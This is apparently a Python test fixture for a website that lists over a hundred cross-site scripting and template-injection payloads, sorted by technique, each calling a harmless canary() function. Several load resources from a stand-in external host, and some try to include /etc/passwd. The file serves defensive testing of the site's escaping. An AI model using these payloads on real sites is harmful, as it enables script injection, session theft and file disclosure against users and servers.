"""Texts that try to run code, written for this site, grouped by technique.

Those that succeed call `canary()`. Public collections have more, but licences of their own, so none is
copied here. To try them too, put their strings into a folder, as JSON lists in files `*.json`, and name it:

    GUIDANCE_PAYLOADS=folder python -m pytest tests/test_injection.py tests/browser/test_injection.py
"""

from __future__ import annotations

import json
import os
from pathlib import Path

BY_CLASS: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>canary()</script>",
        "<SCRIPT>canary()</SCRIPT >",
        "<script/x>canary()</script>",
        "<script src=data:text/javascript,canary()></script>",
        "<script src=//elsewhere.test/x.js></script>",
        "<script type=module>canary()</script>",
        "<scr<script>ipt>canary()</scr</script>ipt>",
        "<<script>canary()//<</script>",
        "<script>canary()",
        "<script\n>canary()</script\n>",
    ),
    "event handlers": (
        "<img src=x onerror=canary()>",
        "<img src=x onerror='canary()'//",
        "<IMG/SRC=x/ONERROR=canary()>",
        "<svg onload=canary()>",
        "<svg/onload=canary()//",
        "<body onload=canary()>",
        "<details open ontoggle=canary()>x</details>",
        "<input autofocus onfocus=canary()>",
        "<video><source onerror=canary()></video>",
        "<p style=animation-name:x onanimationstart=canary()>x</p>",
        "<a onmouseover=canary() href=#>x</a>",
        "<marquee onstart=canary()>x</marquee>",
        "<x contenteditable onblur=canary() tabindex=1 id=x>y</x>",
    ),
    "out of an attribute": (
        '"><img src=x onerror=canary()>',
        "'><img src=x onerror=canary()>",
        '" onmouseover="canary()" x="',
        "' onfocus='canary()' autofocus x='",
        '" autofocus onfocus=canary() //',
        "` onerror=canary() `",
        "x onmouseover=canary()",
        '\\" onload=canary() \\"',
    ),
    "out of an element": (
        "</title><script>canary()</script>",
        "</textarea><img src=x onerror=canary()>",
        "</script><script>canary()</script>",
        "</style><img src=x onerror=canary()>",
        "</option></select><img src=x onerror=canary()>",
        "--><img src=x onerror=canary()><!--",
        "<!-- --!><img src=x onerror=canary()>",
        "]]><img src=x onerror=canary()>",
        "<![CDATA[<img src=x onerror=canary()>]]>",
        "<?xml version='1.0'?><svg onload=canary()/>",
    ),
    "nested and mutating": (
        "<svg><style><img src=x onerror=canary()></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=canary()>'>",
        "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>",
        "<svg></p><style><a id='</style><img src=x onerror=canary()>'>",
        "<template><img src=x onerror=canary()></template>",
        "<select><template><script>canary()</script></template></select>",
        "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
        "<a><b><i><u><s>" * 12 + "<img src=x onerror=canary()>",
    ),
    "other elements": (
        "<iframe src=javascript:parent.canary()></iframe>",
        "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
        "<object data=javascript:canary()></object>",
        "<embed src=javascript:canary()>",
        "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
        "<base href=javascript:/canary()//>",
        "<link rel=stylesheet href=//elsewhere.test/x.css>",
        "<style>@import '//elsewhere.test/x.css';</style>",
        "<p style=background:url(//elsewhere.test/x.png)>x</p>",
        "<form action=javascript:canary()><button>x</button></form>",
        "<button formaction=javascript:canary() form=x>x</button>",
        "<svg><use href=data:image/svg+xml,x#x></use><animate values=javascript:canary()></svg>",
        "<math href=javascript:canary()>x</math>",
    ),
    "addresses": (
        "[x](javascript:canary())",
        "[x](JaVaScRiPt:canary())",
        "[x](java\tscript:canary())",
        "[x](javascript&colon;canary())",
        "[x](javascript&#58;canary&#40;&#41;)",
        "[x](  javascript:canary())",
        "[x](\\javascript:canary())",
        "[x](vbscript:canary())",
        "[x](data:text/html,<script>canary()</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)",
        "[x](//elsewhere.test/x)",
        "[x](https://e.org/\"onmouseover=canary()//)",
        '[x](https://e.org/x "\' onmouseover=canary() x=\'")',
        "[x](https://javascript:canary()@e.org)",
        "<javascript:canary()>",
        "<https://e.org/?<script>canary()</script>>",
        "![x](x\"onerror=\"canary())",
        "![x](//elsewhere.test/x.png)",
        "[x]: javascript:canary()",
        "[](role:ccio\"onclick=canary())",
        "[x](role:javascript:canary())",
        "https://e.org/'onmouseover=canary()//",
    ),
    "markup of other programs": (
        "{{ canary() }}",
        "{{ ''.__class__.__mro__ }}",
        "{% raw %}<script>canary()</script>{% endraw %}",
        "{% include '/etc/passwd' %}",
        "{: onclick=canary() }",
        "word{: #x .y onmouseover=canary() }",
        "{{constructor.constructor('canary()')()}}",
        "${canary()}",
        "#{canary()}",
        "<%= canary() %>",
        "!!! note \"<img src=x onerror=canary()>\"",
        "*[CCIO]: <img src=x onerror=canary()>",
        "[^1]: <img src=x onerror=canary()>",
        "[TOC]",
        "--8<-- '/etc/passwd'",
        "$\\unicode{<img src=x onerror=canary()>}$",
        "```js x='<img src=x onerror=canary()>'\ncanary()\n```",
        "`<img src=x onerror=canary()>`",
        "| <img src=x onerror=canary()> |\n| --- |\n| x |",
    ),
    "entities and other spellings": (
        "&lt;script&gt;canary()&lt;/script&gt;",
        "&#60;img src=x onerror=canary()&#62;",
        "&#x3c;img src=x onerror=canary()&#x3e;",
        "&amp;lt;img src=x onerror=canary()&amp;gt;",
        "%3Cimg%20src=x%20onerror=canary()%3E",
        "\\u003cimg src=x onerror=canary()\\u003e",
        "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
        "＜img src=x onerror=canary()＞",
        "\\<img src=x onerror=canary()\\>",
        "<\u00a0img src=x onerror=canary()>",
        "<im\u200bg src=x onerror=canary()>",
        "+ADw-script+AD4-canary()+ADw-/script+AD4-",
        "<img src=x onerror=\u2028canary()>",
        "<scr\x00ipt>canary()</scr\x00ipt>",
        "\u202e<img src=x onerror=canary()>",
    ),
    "out of a script's text": (
        "'-canary()-'",
        '"-canary()-"',
        '";canary();//',
        "\\';canary();//",
        "</ScRiPt><script>canary()</script>",
        "\u2028canary()//",
        "*/canary()/*",
        "`${canary()}`",
        "__proto__",
        "constructor",
        "<!--<script>canary()//-->",
    ),
    "names that clash with those of a page": (
        "<form id=guidanceForm><input name=parentNode></form>",
        "<a id=guidanceSearch></a><a id=guidanceSearch name=find></a>",
        "<img name=body><img name=getElementById>",
        "[x](#canary)",
    ),
}  # fmt: skip

OWN = tuple(dict.fromkeys(payload for group in BY_CLASS.values() for payload in group))


def payloads() -> tuple[str, ...]:
    """Our own payloads, and those in the folder that the environment names."""
    folder = os.environ.get("GUIDANCE_PAYLOADS")
    files = sorted(Path(folder).glob("*.json")) if folder else []
    more = [text for path in files for text in json.loads(path.read_text("utf-8"))]
    return tuple(dict.fromkeys([*OWN, *more]))
